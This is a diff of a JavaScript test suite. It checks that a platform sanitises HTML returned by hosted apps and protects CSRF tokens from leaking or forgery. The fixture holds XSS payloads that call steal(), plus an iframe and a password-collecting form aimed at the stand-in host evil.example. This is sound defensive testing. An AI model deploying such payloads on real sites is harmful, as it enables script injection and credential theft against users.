@@ -84,7 +84,8 @@ describe('an application', () => {
     application.answer(({ csrfToken }, response) => {
       sendJson(response, { kind: 'result', value: { kind: 'html', html: `<h2 onclick="steal()">Bonjour</h2><script>steal()</script><img src=x onerror=steal()><a href="javascript:steal()">lien</a><iframe src="https://evil.example/"></iframe>
         <form method="post" action="https://evil.example/"><input name="password"></form><style>body{display:none}</style>
-        <form method="post" action="/apps/evil/deed"><input type="hidden" name="_csrf" value="${csrfToken}"><button>Faire</button></form>` } })
+        <form action="/apps/evil/">name="_csrf" value="${csrfToken}"<input type="hidden" name="_csrf" value="${csrfToken}"></form>
+        <form method="post" action="/apps/evil/deed"><input type="hidden" name="_csrf" value="${csrfToken}"><textarea name="x">name="_csrf" value="${csrfToken}"</textarea><button>Faire</button></form>` } })
     })
     const agent = await kernel.as('agent')
     const { status, text } = await agent.get('/apps/evil/', HTML)
@@ -93,6 +94,8 @@ describe('an application', () => {
     expect(text).not.toMatch(/steal|evil\.example|display:none/)
     application.answer((_call, response) => { sendJson(response, { kind: 'result', value: { kind: 'redirect', to: '/' } }) })
     const token = /action="\/apps\/evil\/deed"[^]*?name="_csrf" value="([^"]+)"/.exec(text)?.[1] ?? ''
+    const main = text.slice(text.indexOf('Bonjour'), text.indexOf('Faire'))
+    expect([token.length > 20, main.split(token).length - 1, main.includes('<textarea name="x">name="_csrf" value=""</textarea>')]).toEqual([true, 1, true])
     expect((await agent.send('POST', '/apps/evil/deed', { form: { _csrf: token }, headers: { accept: 'text/html' } })).status).toBe(303)
     expect((await agent.send('POST', '/apps/evil/deed', { form: { _csrf: 'token-of-another' }, headers: { accept: 'text/html' } })).status).toBe(403)
   })
